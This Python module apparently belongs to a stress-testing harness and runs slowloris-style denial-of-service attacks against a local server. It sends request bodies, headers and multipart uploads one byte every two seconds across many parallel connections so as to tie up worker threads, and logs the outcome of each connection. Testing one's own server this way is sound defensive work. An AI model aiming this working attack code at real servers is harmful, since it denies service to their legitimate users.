"""Slow connections: bodies, headers and uploads sent byte by byte, and silent connections."""

import socket
import time

from .bounds import Attack

#: Seconds between two bytes.
PACE = 2.0
#: Pause before reconnecting after the server closed a connection at once.
PAUSE = 0.25


def bodies(attack: Attack) -> None:
    """Send sixteen bodies, a byte every two seconds, without signing in. Eight can block all threads."""
    attack.side_by_side(16, lambda n: _drip(attack, _head("/api/v1/session/", FORM, 10_000), b"a" * 10_000))


def heads(attack: Attack) -> None:
    """Send eight request headers, a byte every two seconds, next to 56 silent connections."""
    head = _head("/healthz", FORM, 0, method="GET").replace(b"\r\n\r\n", b"\r\nX-Slow: ")

    def work(number: int) -> None:
        if number < 8:
            _drip(attack, head, b"a" * 7_000)
        else:
            _drip(attack, b"", b"")

    attack.side_by_side(64, work)


def uploads(attack: Attack) -> None:
    """Send eight uploads, a byte every two seconds, as a stranger with an account."""
    head = _head(f"/api/v1/projects/{attack.slug}/imports/", UPLOAD, 10_000_000)
    head = head.replace(b"\r\n\r\n", f"\r\nAuthorization: Bearer {attack.token}\r\n\r\n".encode())
    begin = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n'
    attack.side_by_side(8, lambda n: _drip(attack, head + begin, b"a" * 10_000))


FORM, UPLOAD = "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"


def _head(path: str, content_type: str, length: int, method: str = "POST") -> bytes:
    return (
        f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: csrftoken={'b' * 32}\r\n"
        f"Content-Type: {content_type}\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


def _drip(attack: Attack, begin: bytes, rest: bytes) -> None:
    """Open a connection, send the beginning at once and the rest byte by byte. Reconnect when the server closes it."""
    for _ in attack.strikes(PAUSE):
        begun = time.monotonic()
        try:
            with socket.create_connection(("127.0.0.1", attack.port), timeout=PACE) as connection:
                connection.sendall(begin)
                why = _bytes(attack, connection, rest)
        except OSError as error:
            why = type(error).__name__
        attack.note(
            "held to the end" if attack.is_over() else f"{why} after {round(time.monotonic() - begun, -1):.0f} s"
        )


def _bytes(attack: Attack, connection: socket.socket, rest: bytes) -> str:
    """Send a byte at a time until the server replies or closes. Return the status or "closed"."""
    sent = 0
    while not attack.is_over():
        try:
            said = connection.recv(4096)
            return said[9:12].decode(errors="replace") if said else "closed"
        except TimeoutError:
            connection.sendall(rest[sent : sent + 1])
            sent += 1
    return ""
